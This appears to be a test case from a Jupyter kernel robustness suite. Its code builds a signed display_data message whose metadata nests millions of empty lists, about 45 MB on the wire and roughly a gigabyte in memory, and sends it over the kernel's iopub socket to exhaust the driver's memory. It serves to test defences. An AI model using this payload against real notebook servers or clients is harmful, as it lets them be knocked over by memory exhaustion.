# ruff: noqa
# mypy: ignore-errors
# idea: send the driver a message that is small as text and huge in memory
# origin: own
# limits: memory_bytes=1000000000, flood_bytes=100000000
# verdicts: after=passed

# %% exercise attack
kernel = get_ipython().kernel
session = kernel.session
message = session.msg("display_data", content={}, parent=kernel.get_parent())
content = b'{"data": {"text/plain": "x"}, "metadata": {"a": [' + b"[]," * 15_000_000 + b"[]]}}"  # 45 MB; a gigabyte of lists
parts = [session.pack(message["header"]), session.pack(message["parent_header"]), session.pack({}), content]
kernel.iopub_thread.socket.send_multipart([b"display_data", b"<IDS|MSG>", session.sign(parts), *parts])
time.sleep(1)
finished = True

# %% test after
assert finished
